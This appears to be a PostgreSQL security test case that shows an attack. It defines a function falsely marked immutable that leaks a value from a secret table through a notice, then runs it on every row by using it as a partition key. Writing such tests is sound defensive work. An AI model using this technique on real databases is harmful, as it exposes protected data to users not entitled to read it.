-- Partitions a table by an expression that reads for every row.
-- wants: read
-- setup:
CREATE FUNCTION peep(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1; END $$;
-- attack:
CREATE TABLE split (n int) PARTITION BY RANGE ((peep(n)));
CREATE TABLE split_all PARTITION OF split DEFAULT;
INSERT INTO split VALUES (1);
